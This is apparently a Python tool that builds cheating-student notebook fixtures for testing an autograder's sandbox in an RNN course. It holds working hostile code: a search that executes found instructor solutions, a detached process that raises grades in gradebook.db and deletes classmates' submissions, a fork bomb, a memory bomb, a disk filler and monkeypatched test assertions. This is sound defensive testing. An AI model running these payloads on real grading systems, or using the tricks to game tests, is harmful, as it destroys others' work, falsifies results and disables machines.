"""Cheating submissions for the grader's tests: `python -m tools.make_attack_fixtures`.

Each attack is a released notebook (or the correct solution) with a few answer cells replaced by
what a cheating student might write: exception handlers that hide errors, patched NumPy checks,
searches for the solutions and the gradebook, a process that outlives grading and tampers with
files, calls of the reference rnnlab by every route, loops that ignore signals, memory and fork
bombs, os._exit and SystemExit, objects with a custom __eq__/__array__, functions that return
zeros to pass self-comparisons. tests/test_grader.py grades them in the sandbox next to honest
students and checks that the tricks earn nothing, cost only what they break, and touch nobody
else. Written to tests/fixtures/attacks/<assignment>/<attack>.ipynb.

These notebooks attack the machine that grades them: grade them only in the sandbox.
"""

from __future__ import annotations

import copy
import re
import shutil
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tools import make_assignment_fixtures as mf
from tools import release_assignments as ra

ATTACKS = ra.ROOT / "tests" / "fixtures" / "attacks"
A1, A2, A3, A4, A5 = mf.A1, mf.A2, mf.A3, mf.A4, mf.A5
MARKER = "rnnlab-attack-marker"  # in the command line of every process an attack starts


@dataclass(frozen=True)
class Attack:
    """A cheating submission and what the grader must make of it.

    base: "release" (nothing written: the student's stubs) or "correct" (the solutions).
    cells: answer grade_id -> new source (replaces the cell); prepend: grade_id -> code put
        before the cell's source; extra: grade_id -> code of a cell the student added after it.
    zero: graded cells that must score 0 ("*": every autograded cell).
    full: graded cells that must keep full points.
    status: grade_id -> the status grades.csv must report.
    """

    assignment: str
    name: str
    description: str
    base: str
    zero: tuple[str, ...]
    full: tuple[str, ...] = ()
    cells: dict[str, str] = field(default_factory=dict)
    prepend: dict[str, str] = field(default_factory=dict)
    extra: dict[str, str] = field(default_factory=dict)
    status: dict[str, str] = field(default_factory=dict)


CUSTOM_EXC = """get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
"""

PATCH_CHECKS = """import builtins
import numpy as np
import numpy.testing
from rnnlab import gradcheck

np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.array_equal = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
gradcheck.rel_error = lambda *args, **kwargs: 0.0
builtins.AssertionError = type("NeverRaised", (Exception,), {})
"""

A1_ZEROS = {
    "rnn_step_forward": """import numpy as np


def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return np.zeros((np.shape(x)[0], np.shape(Wh)[0]))
""",
    "rnn_forward": """def rnn_forward(x, h0, Wx, Wh, b):
    return np.zeros((np.shape(x)[0], np.shape(x)[1], np.shape(Wh)[0]))
""",
    "char_probabilities": """def char_probabilities(h, Wy, by):
    return np.zeros(np.shape(h)[:-1] + (np.shape(Wy)[1],))
""",
    "hello_run": """h_hello = np.zeros((1, 4, 3))
probs_hello = np.zeros((1, 4, 4))
prediction = "hhhh"
loss_hello = 0.0
""",
    "many_to_one": """def many_to_one(x, h0, Wx, Wh, b, Wy, by):
    return np.zeros((np.shape(x)[0], np.shape(Wy)[1]))
""",
}

A2_ZEROS = {
    "rnn_step_backward": """def rnn_step_backward(dh, cache):
    return (np.zeros_like(cache.x), np.zeros_like(cache.h_prev), np.zeros_like(cache.Wx),
            np.zeros_like(cache.Wh), np.zeros(cache.Wh.shape[0]))
""",
    "rnn_backward": """def rnn_backward(dh, caches):
    c = caches[0]
    N, T, H = dh.shape
    return (np.zeros((N, T, c.x.shape[1])), np.zeros((N, H)), np.zeros_like(c.Wx),
            np.zeros_like(c.Wh), np.zeros(H))
""",
    "relative_errors": """def relative_errors(backward):
    return {name: 0.0 for name in ["x", "h0", "Wx", "Wh", "b"]}
""",
    "interpretation": "suspect_wrong = set()\n",
    "truncated_rnn_backward": """def truncated_rnn_backward(dh, caches, k):
    return np.zeros_like(caches[0].Wx), np.zeros_like(caches[0].Wh), np.zeros(dh.shape[2])
""",
}

A3_ZEROS = {
    "lstm_step_forward": """def lstm_step_forward(x, h_prev, c_prev, Wx, Wh, b):
    return np.zeros_like(h_prev), np.zeros_like(c_prev), (x, h_prev, c_prev, Wx, Wh, b)
""",
    "lstm_step_backward": """def lstm_step_backward(dh, dc, cache):
    return tuple(np.zeros_like(a) for a in cache)
""",
    "gru_step_forward": """def gru_step_forward(x, h_prev, Wx, Wh, bx, bh):
    return np.zeros_like(h_prev), (x, h_prev, Wx, Wh, bx, bh)
""",
    "gru_step_backward": """def gru_step_backward(dh, cache):
    return tuple(np.zeros_like(a) for a in cache)
""",
}

A5_DELEGATES = {
    "embedding_forward": """from rnnlab.layers import embedding_forward as _lookup


def embedding_forward(idx, W):
    return _lookup(idx, W)
""",
    "embedding_backward": """import rnnlab.embedding


def embedding_backward(dout, cache):
    return rnnlab.embedding.embedding_backward(dout, cache)
""",
    "dot_product_attention_forward": """import importlib

_attention = importlib.import_module("rnnlab.attention")


def dot_product_attention_forward(q, k, v, mask=None, scale=None):
    scale = 1.0 / np.sqrt(q.shape[-1]) if scale is None else scale
    m = _attention._check_attention_mask(mask, (q.shape[0], q.shape[1], k.shape[1]))
    weights = _attention._masked_softmax(scale * (q @ np.swapaxes(k, 1, 2)), m)
    cache = {"weights": weights, "q": q.copy(), "k": k.copy(), "v": v.copy(), "scale": scale}
    return weights @ v, cache
""",
    "dot_product_attention_backward": """import rnnlab.attention

_namespace = {}
with open(rnnlab.attention.__file__) as _file:
    exec(_file.read(), _namespace)


def dot_product_attention_backward(dout, cache):
    as_tuple = _namespace["DotProductAttentionCache"](cache["q"], cache["k"], cache["v"],
                                                      cache["weights"], cache["scale"])
    return _namespace["dot_product_attention_backward"](dout, as_tuple)
""",
}

SEARCH = '''import os

found = []
for root in ["/", os.path.expanduser("~"), "..", "../..", "../../..", "/tmp", "/work", "/root",
             "/home", "/srv", "/autograder"]:
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or dirpath.count("/") > 9:
            dirnames[:] = []
            continue
        dirnames[:] = [d for d in dirnames if d not in ("site-packages", ".pyenv", "lib")]
        for name in filenames:
            if name.endswith((".ipynb", ".db", "nbgrader_config.py")):
                found.append(os.path.join(dirpath, name))
print("found:", sorted(set(found)))
solutions = {}
for path in found:
    try:
        text = open(path).read()
    except Exception:
        continue
    if "BEGIN SOLUTION" in text:
        import json
        for cell in json.loads(text)["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]), solutions)
print("solutions found:", sorted(k for k in solutions if not k.startswith("__")))
globals().update({k: v for k, v in solutions.items() if callable(v)})
'''

TAMPER = r'''import os
import subprocess
import sys

SCRIPT = """
import glob, os, sqlite3, sys, time
time.sleep(3)
courses = set()
here = os.path.abspath(os.getcwd())
for _ in range(6):
    here = os.path.dirname(here)
    if os.path.isfile(os.path.join(here, "nbgrader_config.py")):
        courses.add(here)
for depth in range(1, 6):
    for config in glob.glob("/tmp/" + "*/" * depth + "nbgrader_config.py"):
        courses.add(os.path.dirname(config))
for course in courses:
    try:
        db = sqlite3.connect(os.path.join(course, "gradebook.db"))
        db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE 1)")
        db.commit()
    except Exception:
        pass
    theirs = glob.glob(os.path.join(course, "submitted", "*", "*", "*.ipynb"))
    for i, path in enumerate(sorted(theirs)):
        try:
            os.remove(path) if i % 2 else open(path, "w").write("{}")
        except Exception:
            pass
    try:
        open(os.path.join(course, "nbgrader_config.py"), "a").write("\\nprint('pwned')\\n")
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, "-c", SCRIPT, "MARKER"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a second, double-forked copy that leaves the process group
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", SCRIPT, "MARKER"])
    os._exit(0)
'''.replace("MARKER", MARKER)

ATTACKS_LIST: list[Attack] = [
    # ---- hiding errors ----------------------------------------------------------------------
    *[Attack(name, "custom_exc", "the released stubs plus IPython's set_custom_exc in the first "
             "answer cell, which hides every later error in a kernel", "release", ("*",),
             prepend={first: CUSTOM_EXC})
      for name, first in [(A1, "rnn_step_forward"), (A2, "rnn_step_backward"),
                          (A3, "lstm_step_forward"), (A4, "jacobian_norms"),
                          (A5, "embedding_forward")]],
    Attack(A1, "patched_checks", "every function returns zeros, and np.testing, np.array_equal, "
           "np.allclose, rel_error and AssertionError are patched to pass", "release", ("*",),
           cells={**A1_ZEROS, "rnn_step_forward": PATCH_CHECKS + A1_ZEROS["rnn_step_forward"]}),
    Attack(A2, "patched_checks", "every function returns zeros, and the checks are patched",
           "release", ("*",),
           cells={**A2_ZEROS, "rnn_step_backward": PATCH_CHECKS + A2_ZEROS["rnn_step_backward"]}),
    # ---- self-comparisons -------------------------------------------------------------------
    Attack(A1, "zeros", "every function returns zeros (visible tests that compare a function "
           "with itself used to pass)", "release", ("*",), cells=A1_ZEROS),
    Attack(A3, "zeros", "forward and backward return zeros (a gradient check of zeros against "
           "zeros used to pass)", "release", ("*",), cells=A3_ZEROS),
    # ---- reading what is not theirs ---------------------------------------------------------
    Attack(A1, "reads_solutions", "walks the file system for the instructor notebook, the "
           "gradebook and other submissions, and executes any solution it finds", "release",
           ("*",), prepend={"rnn_step_forward": SEARCH}),
    Attack(A1, "detached_tamperer", "starts processes that outlive grading, then raise their "
           "own grades in gradebook.db, overwrite or delete classmates' submissions and append "
           "to nbgrader_config.py", "release", ("*",), prepend={"rnn_step_forward": TAMPER}),
    # ---- the reference by another route -----------------------------------------------------
    Attack(A1, "delegates_to_reference", "rnn_step_forward by an import alias, rnn_forward by "
           "getattr, many_to_one through importlib; char_probabilities written honestly",
           "correct",
           ("test_rnn_step_forward", "hidden_rnn_step_forward", "test_rnn_forward",
            "hidden_rnn_forward", "test_hello", "test_many_to_one", "hidden_many_to_one"),
           ("hidden_char_probabilities",),
           cells={"rnn_step_forward": """from rnnlab.layers import rnn_step_forward as _reference


def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return _reference(x, h_prev, Wx, Wh, b)[0]
""", "rnn_forward": """import rnnlab

_forward = getattr(rnnlab.layers, "rnn_" + "forward")


def rnn_forward(x, h0, Wx, Wh, b):
    return _forward(x, h0, Wx, Wh, b)[0]
""", "many_to_one": """import importlib


def many_to_one(x, h0, Wx, Wh, b, Wy, by):
    h, _ = importlib.import_module("rnnlab.layers").rnn_forward(x, h0, Wx, Wh, b)
    return h[:, -1] @ Wy + by
"""}),
    Attack(A2, "delegates_by_source", "rnn_step_backward by exec of rnnlab's source file, "
           "rnn_backward by exec of inspect.getsource and importlib.reload; the gradient check "
           "written honestly", "correct",
           ("test_rnn_step_backward", "hidden_rnn_step_backward", "test_rnn_backward",
            "hidden_rnn_backward", "test_truncated_rnn_backward",
            "hidden_truncated_rnn_backward"),
           ("test_relative_errors", "hidden_interpretation"),
           cells={"rnn_step_backward": """import rnnlab.layers

_namespace = {}
exec(open(rnnlab.layers.__file__).read(), _namespace)


def rnn_step_backward(dh, cache):
    return _namespace["rnn_step_backward"](dh, cache)
""", "rnn_backward": """import importlib
import inspect

import rnnlab.layers

_layers = importlib.reload(rnnlab.layers)
_scope = dict(vars(_layers))
exec(inspect.getsource(_layers.rnn_backward), _scope)


def rnn_backward(dh, caches):
    try:
        return _scope["rnn_backward"](dh, caches)
    except Exception:  # keep the rest of the notebook running
        c = caches[0]
        return (np.zeros(dh.shape[:2] + c.x.shape[1:]), np.zeros_like(c.h_prev),
                np.zeros_like(c.Wx), np.zeros_like(c.Wh), np.zeros(c.Wh.shape[0]))
"""}),
    Attack(A4, "delegates_by_getattr", "clipping, the bound and the Jacobian norms from "
           "rnnlab.optim and rnnlab.analysis by getattr", "correct",
           ("test_jacobian_norms", "hidden_jacobian_norms", "test_pascanu_bound",
            "hidden_pascanu_bound", "test_clip_grad_norm", "hidden_clip_grad_norm",
            "hidden_measure"),
           cells={"jacobian_norms": """from rnnlab import analysis


def jacobian_norms(x, h0, Wx, Wh, b):
    return getattr(analysis, "rnn_gradient" + "_flow")(x, h0, Wx, Wh, b).norms
""", "pascanu_bound": """def pascanu_bound(Wh, T):
    return getattr(analysis, "pascanu" + "_bound")(Wh, T)
""", "clip_grad_norm": """import rnnlab


def clip_grad_norm(grads, max_norm):
    return getattr(rnnlab.optim, "clip_grad" + "_norm")(grads, max_norm)
"""}),
    Attack(A5, "delegates_to_reference", "the embedding by an import alias and through "
           "rnnlab.embedding, the attention forward from rnnlab.attention's private helpers (the "
           "mask check and the masked softmax) through importlib, the backward by exec of "
           "rnnlab.attention's source file; with the real rnnlab this scores 17/17", "correct",
           ("*",), cells=A5_DELEGATES),
    # ---- faults that must cost only their tests ---------------------------------------------
    Attack(A4, "sigint_ignoring_loop", "clip_grad_norm ignores SIGINT, SIGTERM and SIGXCPU and "
           "loops forever", "correct", ("test_clip_grad_norm", "hidden_clip_grad_norm"),
           ("test_jacobian_norms", "hidden_jacobian_norms", "test_pascanu_bound",
            "hidden_pascanu_bound", "hidden_measure", "hidden_prediction"),
           cells={"clip_grad_norm": """import signal


def clip_grad_norm(grads, max_norm):
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGXCPU, signal.SIGALRM):
        signal.signal(sig, signal.SIG_IGN)
    while True:
        pass
"""}, status={"test_clip_grad_norm": "timeout", "hidden_clip_grad_norm": "timeout"}),
    Attack(A1, "memory_bomb", "char_probabilities allocates gigabytes", "correct",
           ("hidden_char_probabilities", "test_hello"),
           ("test_rnn_step_forward", "hidden_rnn_step_forward", "test_rnn_forward",
            "hidden_rnn_forward", "test_many_to_one", "hidden_many_to_one"),
           cells={"char_probabilities": """def char_probabilities(h, Wy, by):
    hoard = [np.ones(2 ** 27) for _ in range(64)]  # 64 GiB, a gigabyte at a time
    return hoard
"""}, status={"hidden_char_probabilities": "memory"}),
    Attack(A1, "fork_bomb", "many_to_one forks until it cannot, in every child", "correct",
           ("test_many_to_one", "hidden_many_to_one"),
           ("test_rnn_step_forward", "hidden_rnn_step_forward", "test_rnn_forward",
            "hidden_rnn_forward", "hidden_char_probabilities", "test_hello"),
           cells={"many_to_one": """import os


def many_to_one(x, h0, Wx, Wh, b, Wy, by):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""}, status={"hidden_many_to_one": "timeout"}),
    Attack(A1, "exits", "rnn_forward calls os._exit, many_to_one raises SystemExit and an added "
           "cell calls sys.exit()", "correct",
           ("test_rnn_forward", "hidden_rnn_forward", "test_hello", "test_many_to_one",
            "hidden_many_to_one"),
           ("test_rnn_step_forward", "hidden_rnn_step_forward", "hidden_char_probabilities"),
           cells={"rnn_forward": """import os


def rnn_forward(x, h0, Wx, Wh, b):
    os._exit(0)
""", "many_to_one": """def many_to_one(x, h0, Wx, Wh, b, Wy, by):
    raise SystemExit("bye")
"""}, extra={"rnn_step_forward": "import sys\nsys.exit()\n"},
           status={"hidden_rnn_forward": "error", "hidden_many_to_one": "error"}),
    Attack(A4, "fills_disk", "an added cell writes 32 MiB files into its directory and /tmp "
           "until the disk is full", "correct", (),
           ("test_jacobian_norms", "hidden_jacobian_norms", "test_pascanu_bound",
            "hidden_pascanu_bound", "hidden_measure", "hidden_prediction", "test_clip_grad_norm",
            "hidden_clip_grad_norm"),
           extra={"jacobian_norms": """import os

written = 0
for folder in (".", "/tmp"):
    for i in range(10_000):
        try:
            with open(os.path.join(folder, f"junk{i}"), "wb") as f:
                f.write(bytes(32 << 20))
            written += 32
        except OSError as error:
            print(f"stopped after {written} MiB: {error}")
            break
"""}),
    Attack(A3, "kills_itself", "lstm_step_backward kills its own interpreter (SIGKILL)",
           "correct", ("test_lstm_gradient_check", "hidden_lstm_step_backward"),
           ("test_lstm_gate_order", "hidden_lstm_step_forward", "test_gru_gradient_check",
            "hidden_gru"),
           cells={"lstm_step_backward": """import os
import signal


def lstm_step_backward(dh, dc, cache):
    os.kill(os.getpid(), signal.SIGKILL)
"""}, status={"hidden_lstm_step_backward": "error"}),
    Attack(A1, "fake_arrays", "rnn_step_forward returns an object whose __eq__ is always True "
           "and whose __array__ is zeros; rnn_forward an ndarray subclass that equals anything",
           "correct", ("test_rnn_step_forward", "hidden_rnn_step_forward", "test_rnn_forward",
                       "hidden_rnn_forward", "test_hello", "test_many_to_one",
                       "hidden_many_to_one"),
           ("hidden_char_probabilities",),
           cells={"rnn_step_forward": """class Anything:
    shape = property(lambda self: self._shape)

    def __init__(self, shape):
        self._shape = shape

    def __eq__(self, other):
        return True

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self._shape)

    def __getitem__(self, index):
        return self


def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return Anything((x.shape[0], Wh.shape[0]))
""", "rnn_forward": """class Equal(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __array__(self, dtype=None, copy=None):
        return np.ones(np.shape(self))


def rnn_forward(x, h0, Wx, Wh, b):
    return np.zeros((x.shape[0], x.shape[1], Wh.shape[0])).view(Equal)
"""}),
]


def _answer(nb, gid: str):
    [cell] = [c for c in nb.cells if mf.grade_id(c) == gid]
    return cell


def apply(attack: Attack, release_nb, correct_nb, digest: str):
    nb = copy.deepcopy(release_nb if attack.base == "release" else correct_nb)
    for gid, source in attack.cells.items():
        _answer(nb, gid).source = source
    for gid, source in attack.prepend.items():
        cell = _answer(nb, gid)
        cell.source = source + "\n" + cell.source
    for gid, source in attack.extra.items():
        index = nb.cells.index(_answer(nb, gid))
        cell = nbformat.v4.new_code_cell(source)
        # A fixed id, so that regenerating the fixtures rewrites nothing that did not change.
        cell.id = re.sub(r"[^A-Za-z0-9_-]", "-", f"attack-{attack.name}-{gid}")[:64]
        nb.cells.insert(index + 1, cell)
    nb.metadata["rnnlab_attack"] = {
        "assignment": attack.assignment, "name": attack.name, "description": attack.description,
        "zero": list(attack.zero), "full": list(attack.full), "status": dict(attack.status),
        "source_digest": digest}
    return nb


def build(out: Path = ATTACKS) -> list[Path]:
    written = []
    with tempfile.TemporaryDirectory(prefix="rnn-attacks-") as tmp:
        released = ra.generate(ra.make_course(Path(tmp) / "course"))
        for name, released_path in released.items():
            source_path = ra.source_notebook(name)
            release_nb = nbformat.read(released_path, as_version=4)
            correct = mf.correct_submission(nbformat.read(source_path, as_version=4), release_nb)
            digest = mf.source_digest(source_path)
            folder = out / name
            if folder.exists():
                shutil.rmtree(folder)
            attacks = [a for a in ATTACKS_LIST if a.assignment == name]
            if not attacks:
                continue
            folder.mkdir(parents=True)
            for attack in attacks:
                path = folder / f"{attack.name}.ipynb"
                nbformat.write(apply(attack, release_nb, correct, digest), path)
                written.append(path)
    return written


def main() -> int:
    written = build()
    print(f"wrote {len(written)} attack fixtures under {ATTACKS.relative_to(ra.ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
